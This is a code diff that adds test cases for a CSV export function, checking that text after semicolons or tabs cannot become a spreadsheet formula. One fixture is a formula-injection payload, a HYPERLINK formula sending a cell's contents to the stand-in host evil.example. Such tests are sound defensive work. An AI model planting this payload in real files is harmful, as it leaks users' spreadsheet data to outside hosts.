@@ -23,4 +23,12 @@ describe('A line of an export', () => {
   it('makes a text behind a carriage return no formula', () => {
     expect(csvLine(['\r=1'])).toBe(`"'\r=1"\r\n`);
   });
+
+  it.each([
+    ['x;=HYPERLINK("http://evil.example/"&A1)', `"x;'=HYPERLINK(""http://evil.example/""&A1)"`],
+    ['x\t+1', `x\t'+1`],
+    ['Ada;Kessler-Braun', 'Ada;Kessler-Braun'],
+  ])('makes no formula of what follows a separator of other spreadsheets: %j', (text, cell) => {
+    expect(csvLine([text])).toBe(`${cell}\r\n`);
+  });
 });
